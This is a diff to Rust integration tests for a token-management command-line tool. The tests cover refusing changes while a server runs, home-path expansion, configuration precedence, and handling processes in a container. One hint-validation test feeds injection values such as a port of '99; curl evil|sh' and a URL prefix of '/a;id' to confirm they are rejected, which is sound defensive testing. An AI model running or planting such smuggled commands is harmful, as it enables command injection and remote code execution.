@@ -3,19 +3,19 @@
 use std::fs::{self, File};
 use std::os::unix::fs::{MetadataExt as _, symlink};
 use std::os::unix::process::CommandExt as _;
+use std::path::Path;
 use std::process::{Child, Command, Stdio};
 use std::thread;
-use std::time::{Duration, Instant};
+use std::time::Duration;
 
 use tempfile::TempDir;
 
-use crate::support::{Folder, Output};
+use crate::support::{Folder, MINIFIED_ADMIN, Output, PROCESSES, each, wait_for_one_who_waits};
 
-const ADMIN: &str = "[{\"id\":\"admin\",\"username\":\"admin\",\"password\":1,\"is_admin\":true,\"jwt_tokens\":{}}]";
 /// The key of the process, which must not be told.
 const ITS_KEY: &str = "the-key-in-the-environment-of-specter";
 
-/// A process, ended when it is dropped.
+/// A process that the program is shown, ended when it is dropped.
 struct Process {
     child: Child,
     /// What it runs, kept as long as it runs.
@@ -45,9 +45,14 @@ impl Process {
     fn start(command: &mut Command) -> Self {
         let process = Process { child: command.stdin(Stdio::piped()).spawn().unwrap(), scripts: None };
         // For a moment after its start, a process has no command line yet.
-        while fs::read(format!("/proc/{}/cmdline", process.child.id())).unwrap().is_empty() {
+        let id = process.child.id().to_string();
+        let of_system = Path::new("/proc").join(&id);
+        while fs::read(of_system.join("cmdline")).unwrap().is_empty() {
             thread::yield_now();
         }
+        // One that was ended before it could take it away may have left the same.
+        let _ = fs::remove_file(PROCESSES.join(&id));
+        symlink(of_system, PROCESSES.join(id)).unwrap();
         process
     }
 
@@ -61,6 +66,7 @@ impl Process {
 
 impl Drop for Process {
     fn drop(&mut self) {
+        let _ = fs::remove_file(PROCESSES.join(self.child.id().to_string()));
         let _ = self.child.kill();
         let _ = self.child.wait();
     }
@@ -68,7 +74,7 @@ impl Drop for Process {
 
 /// A folder on which Specter has run before.
 fn folder() -> Folder {
-    let folder = Folder::with_users(ADMIN);
+    let folder = Folder::with_users(MINIFIED_ADMIN);
     fs::write(folder.file("config.json"), "{}").unwrap();
     folder.create("old", &[]);
     folder
@@ -82,7 +88,8 @@ fn changes_are_refused_and_reading_goes_on() {
     let specter = Process::specter(&["--port", "8000"], Some(("SPECTER_DATA_FOLDER", folder.path().to_str().unwrap())));
     let before = folder.files();
     let run = |arguments: &[&str]| specter.masked(folder.command(arguments).run());
-    for arguments in [&CREATE[..], &["revoke", "old"], &["revoke", "--all", "--yes"], &["revoke", "--expired"]] {
+    let cases = [&CREATE[..], &["revoke", "old"], &["revoke", "--all", "--yes"], &["revoke", "--expired"]];
+    each(cases, |arguments| {
         run(arguments).expect(
             5,
             "",
@@ -92,10 +99,10 @@ fn changes_are_refused_and_reading_goes_on() {
         let json = run(&[arguments, &["--json"]].concat());
         assert_eq!((json.code, &*json.stdout), (5, ""));
         assert!(json.stderr.starts_with("{\"error\":{\"reason\":\"running\","), "{json:?}");
-    }
+    });
     // The file of --out goes with the token.
     let out = folder.file("out");
-    run(&[&CREATE[..], &["--out", out.to_str().unwrap()]].concat());
+    assert_eq!(run(&[&CREATE[..], &["--out", out.to_str().unwrap()]].concat()).code, 5);
     assert_eq!(folder.files(), before);
 
     let note = "warning: a Specter is running on this folder (process <PROCESS>); it uses what it read at its start, so it may answer differently\n";
@@ -204,18 +211,19 @@ fn homes_are_taken_as_python_takes_them() {
     let named = format!("~{name}/{}{}", "../".repeat(home.split('/').count()), &path[1..]);
     let (named_none, none_at_home) = (format!("~{name}/none"), format!("{}/none", home.trim_end_matches('/')));
     let below = format!("~{path}");
-    for (arguments, variable) in [
+    let cases = [
         (vec![], ("SPECTER_DATA_FOLDER", &*named)),
         (vec!["--specter-data-folder", &named], ("HOME", "/nonexistent")),
         (vec!["--specter-data-folder", &below], ("HOME", "")),
         (vec!["--specter-data-folder", &below], ("HOME", "//")),
-    ] {
+    ];
+    each(cases, |(arguments, variable)| {
         let specter = Process::specter(&arguments, Some(variable));
         let code = folder.command(CREATE).run().code;
         assert_eq!(code, 5, "{arguments:?} {variable:?}");
         drop(specter);
-    }
-    for (told, home, found) in [
+    });
+    let cases = [
         ("~/none", Some(""), "/none"),
         ("~/none", Some("/home//"), "/home/none"),
         ("~//none", Some("/"), "//none"),
@@ -223,8 +231,9 @@ fn homes_are_taken_as_python_takes_them() {
         (&named_none, None, &none_at_home),
         ("~/none", None, &none_at_home),
         ("~nobody-has-this-name/none", Some("/home"), "~nobody-has-this-name/none"),
-    ] {
-        for option in [true, false] {
+    ];
+    each(cases, |(told, home, found)| {
+        each([true, false], |option| {
             let mut list = folder.command(["list"]).without("HOME");
             if let Some(home) = home {
                 list = list.env("HOME", home);
@@ -236,23 +245,24 @@ fn homes_are_taken_as_python_takes_them() {
                 list.env("SPECTER_DATA_FOLDER", told).run()
             };
             assert!(output.stderr.contains(&format!(" {found}/users.json")), "{told} {home:?}: {output:?}");
-        }
-    }
+        });
+    });
 }
 
 /// The configuration that the option names has another folder.
 #[test]
 fn the_variable_beats_the_option_for_the_configuration() {
     let home = Folder::empty();
-    for (name, variable, code) in [
+    let cases = [
         (".specter_dev", "SPECTER_CONFIG", 0),
         (".specter_dev", "SPECTER_OTHER", 5),
         (".specter_testing", "SPECTER_CONFIG", 5),
         (".specter_testing", "SPECTER_OTHER", 0),
-    ] {
+    ];
+    each(cases, |(name, variable, code)| {
         let data = home.file(name);
         let _ = fs::create_dir(&data);
-        fs::write(data.join("users.json"), ADMIN).unwrap();
+        fs::write(data.join("users.json"), MINIFIED_ADMIN).unwrap();
         let scripts = tempfile::tempdir().unwrap();
         fs::write(scripts.path().join("server"), "read line").unwrap();
         let mut command = Command::new("/bin/sh");
@@ -262,7 +272,7 @@ fn the_variable_beats_the_option_for_the_configuration() {
         let output = home.command(CREATE).env("SPECTER_DATA_FOLDER", &data).run();
         assert_eq!(output.code, code, "{name} {variable}: {output:?}");
         drop(specter);
-    }
+    });
 }
 
 /// What the hint names is typed by whoever wants to go on: an address where this Specter is reached, or none.
@@ -280,15 +290,16 @@ fn the_hint_names_no_address_but_one_of_this_machine() {
     };
     let nothing = ("X", "");
     assert_eq!(hint(&["--host", "localhost", "--port", "80"], nothing), "http://localhost:80");
-    for (arguments, variable) in [
+    let cases = [
         (vec!["--host", "evil.example"], nothing),
         (vec!["--port", "99; curl evil|sh"], nothing),
         (vec![], ("APP_URL_PREFIX", "/a;id")),
         (vec![], ("SPECTER_API_ACTIVE", "False")),
         (vec![], ("SPECTER_API_ACTIVE", "")),
-    ] {
+    ];
+    each(cases, |(arguments, variable)| {
         assert_eq!(hint(&arguments, variable), "URL", "{arguments:?} {variable:?}");
-    }
+    });
 }
 
 /// A Specter that is started in the middle of a write may have read users.json before or after it.
@@ -296,7 +307,7 @@ fn the_hint_names_no_address_but_one_of_this_machine() {
 fn one_that_is_started_meanwhile_is_seen_after_the_write() {
     let folder = folder();
     let path = folder.path().to_str().unwrap();
-    for (arguments, code, stdout, done) in [
+    let cases = [
         (
             &CREATE[..],
             5,
@@ -304,7 +315,8 @@ fn one_that_is_started_meanwhile_is_seen_after_the_write() {
             "created token <ID> of user admin in <DIR>/users.json, expires <TIME>; key from SECRET_KEY\n",
         ),
         (&["revoke", "old"], 5, "", "removed token <ID> \"old\" of user admin from <DIR>/users.json\n"),
-    ] {
+    ];
+    each(cases, |(arguments, code, stdout, done)| {
         // While the folder is locked, the command has looked for a Specter and cannot write.
         let lock = File::open(folder.path()).unwrap();
         lock.lock().unwrap();
@@ -326,22 +338,27 @@ fn one_that_is_started_meanwhile_is_seen_after_the_write() {
         output.stderr = output.stderr.replace(&format!("{path})"), "<DIR>)");
         output.expect(code, stdout, &format!("{done}{error}"));
         assert_ne!(folder.files(), before, "{arguments:?}");
-    }
+    });
 }
 
-/// Waits until the command waits for the lock on a folder, which it has open by then.
-fn wait_for_one_who_waits(folder: &std::path::Path) {
-    let give_up_at = Instant::now() + Duration::from_secs(10);
-    let opens_folder = || {
-        fs::read_dir("/proc").unwrap().filter_map(Result::ok).any(|process| {
-            let is_ours = fs::read(process.path().join("cmdline"))
-                .is_ok_and(|words| words.starts_with(env!("CARGO_BIN_EXE_specter-token").as_bytes()));
-            let descriptors = fs::read_dir(process.path().join("fd")).into_iter().flatten().filter_map(Result::ok);
-            is_ours && descriptors.into_iter().any(|fd| fs::read_link(fd.path()).is_ok_and(|path| path == folder))
-        })
-    };
-    while !opens_folder() {
-        assert!(Instant::now() < give_up_at, "nobody waits for the lock");
-        thread::sleep(Duration::from_millis(10));
-    }
+/// In a container, and where others' processes are hidden, no Specter that is seen is no sign that there is none.
+#[test]
+fn where_not_every_process_is_seen_nothing_is_promised() {
+    const ACCEPTED: &str = "warning: could not check whether a Specter is running, which would not accept it, and would lose it at its next save\n";
+    const REFUSED: &str = "warning: could not check whether a running Specter still accepts it\n";
+    let in_container = tempfile::tempdir().unwrap();
+    fs::create_dir_all(in_container.path().join("self/ns")).unwrap();
+    fs::create_dir(in_container.path().join("1")).unwrap();
+    fs::write(in_container.path().join("1/cmdline"), "init\0").unwrap();
+    symlink("pid:[4026532000]", in_container.path().join("self/ns/pid")).unwrap();
+    each([in_container.path(), Path::new("/nonexistent")], |processes| {
+        let folder = folder();
+        let run = |arguments: &[&str]| folder.command(arguments).env("SPECTER_TOKEN_TEST_PROC", processes).run();
+        let created = "created token <ID> of user admin in <DIR>/users.json, expires <TIME>; key from SECRET_KEY\n";
+        run(&CREATE).expect(0, "<TOKEN>\n", &format!("{created}{ACCEPTED}"));
+        let removed = "removed token <ID> \"old\" of user admin from <DIR>/users.json\n";
+        run(&["revoke", "old"]).expect(0, "", &format!("{removed}{REFUSED}"));
+        run(&["revoke", "-q", "new"]).expect(0, "", REFUSED);
+        assert_eq!(run(&["create", "--json", "-d", "x", "-l", "1h"]).json()["effect"], "unknown");
+    });
 }
